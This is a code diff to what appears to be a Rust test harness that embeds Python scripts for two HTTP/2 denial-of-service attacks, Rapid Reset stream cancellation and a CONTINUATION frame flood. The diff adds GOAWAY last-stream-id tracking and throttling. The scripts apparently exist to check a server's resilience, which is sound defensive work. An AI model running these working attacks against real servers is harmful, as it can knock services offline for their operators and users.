@@ -141,7 +141,7 @@ def block(authority):
 class Peer:
     """Reads frames the server sent, without blocking; notes GOAWAY and the end."""
     def __init__(self, s):
-        self.s, self.buf, self.goaway, self.ended = s, b"", None, None
+        self.s, self.buf, self.goaway, self.ended, self.last_stream = s, b"", None, None, 0
     def poll(self):
         while self.ended is None:
             r, _, _ = select.select([self.s], [], [], 0)
@@ -163,6 +163,7 @@ class Peer:
                 kind, payload = self.buf[3], self.buf[9:9 + length]
                 if kind == 7 and self.goaway is None:
                     self.goaway = int.from_bytes(payload[4:8], "big")
+                    self.last_stream = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                 self.buf = self.buf[9 + length:]
     def send(self, data):
         try:
@@ -181,14 +182,16 @@ class Peer:
 /// prior knowledge; on each connection, batches of 50 requests each reset
 /// (RST_STREAM CANCEL) right after its HEADERS, until the server ends it;
 /// then the next connection, until SECONDS or MAX_STREAMS. Prints
-/// `connections C streams S most M endings E` (M: most streams one
-/// connection took before its end; E: how each ended).
+/// `connections C streams S most M last L endings E` (M: most streams one
+/// connection wrote before its end, socket buffers included; L: the highest
+/// last-stream-id a GOAWAY named, the streams the server took at most;
+/// E: how each connection ended).
 pub fn rapid_reset() -> String {
     H2.to_string()
         + r#"
 host, port, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3]
 seconds, max_streams = float(sys.argv[4]), int(sys.argv[5])
-deadline, total, most, endings = time.time() + seconds, 0, 0, {}
+deadline, total, most, last, endings = time.time() + seconds, 0, 0, 0, {}
 hb = block(authority)
 while time.time() < deadline and total < max_streams:
     s = socket.create_connection((host, port), timeout=5)
@@ -211,16 +214,17 @@ while time.time() < deadline and total < max_streams:
         time.sleep(0.05)
         peer.poll()
     most = max(most, sent)
+    last = max(last, peer.last_stream)
     endings[peer.closing()] = endings.get(peer.closing(), 0) + 1
     s.close()
-print("connections %d streams %d most %d endings %s" % (sum(endings.values()), total, most,
+print("connections %d streams %d most %d last %d endings %s" % (sum(endings.values()), total, most, last,
       ",".join("%s=%d" % kv for kv in sorted(endings.items())).replace(" ", "_")), flush=True)
 "#
 }
 
 /// `python3 -c CONTINUATION_FLOOD HOST PORT AUTHORITY MAX_FRAMES SECONDS`:
 /// h2c prior knowledge, one HEADERS frame without END_HEADERS, then empty
-/// CONTINUATION frames in batches of 100 until the peer ends the
+/// CONTINUATION frames, 20 every 5 ms, until the peer ends the
 /// connection, MAX_FRAMES or SECONDS. Prints `frames N ending E`.
 pub fn continuation_flood() -> String {
     H2.to_string()
@@ -231,11 +235,13 @@ s = socket.create_connection((host, port), timeout=1)
 peer = Peer(s)
 peer.send(PREFACE + frame(4, 0, 0) + frame(1, 0x1, 1, block(authority)))
 sent, deadline = 0, time.time() + seconds
-batch = frame(9, 0, 1) * 100
+batch = frame(9, 0, 1) * 20
 while peer.ended is None and peer.goaway is None and sent < max_frames and time.time() < deadline:
     if not peer.send(batch):
         break
-    sent += 100
+    sent += 20
+    # A pause, so a server that reads everything can answer before more comes.
+    time.sleep(0.005)
     peer.poll()
 end = time.time() + 3
 while peer.ended is None and time.time() < end:
